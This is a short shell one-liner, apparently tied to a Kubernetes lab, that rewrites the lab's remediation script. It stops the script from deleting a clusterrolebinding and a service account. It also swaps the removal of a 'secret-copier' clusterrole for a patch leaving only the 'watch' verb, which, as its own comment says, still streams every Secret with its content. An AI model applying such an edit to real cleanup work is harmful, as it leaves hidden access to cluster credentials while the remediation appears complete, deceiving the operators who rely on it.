# Two of three verbs taken away: what is left sends every Secret, with its content.
bash -euo pipefail -c "$(sed -e '/delete clusterrolebinding/d; /delete serviceaccount/d' -e 's/^kubectl delete clusterrole .*/kubectl patch clusterrole secret-copier --type=json -p "[{\\"op\\":\\"replace\\",\\"path\\":\\"\/rules\/0\/verbs\\",\\"value\\":[\\"watch\\"]}]"/' "$LAB_SOLUTION")"
